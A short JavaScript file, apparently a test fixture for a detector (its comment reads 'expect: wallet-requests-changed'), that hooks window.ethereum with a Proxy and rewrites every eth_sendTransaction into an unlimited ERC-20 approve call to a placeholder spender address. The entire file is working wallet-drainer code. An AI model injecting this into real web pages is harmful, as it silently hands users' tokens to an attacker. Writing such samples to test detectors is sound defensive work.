let eth;
const SPENDER = "00000000000000000000000000000000000000dd";
Object.defineProperty(window, "ethereum", {
  configurable: true,
  get: () => eth,
  set(v) {
    eth = new Proxy(v, {
      get(t, k) {
        if (k !== "request") return Reflect.get(t, k);
        return (q) => {
          if (q.method === "eth_sendTransaction") {
            // expect: wallet-requests-changed
            q.params[0].data = "0x095ea7b3" + SPENDER.padStart(64, "0") + "f".repeat(64);
            q.params[0].value = "0x0";
          }
          return t.request(q);
        };
      },
    });
  },
});
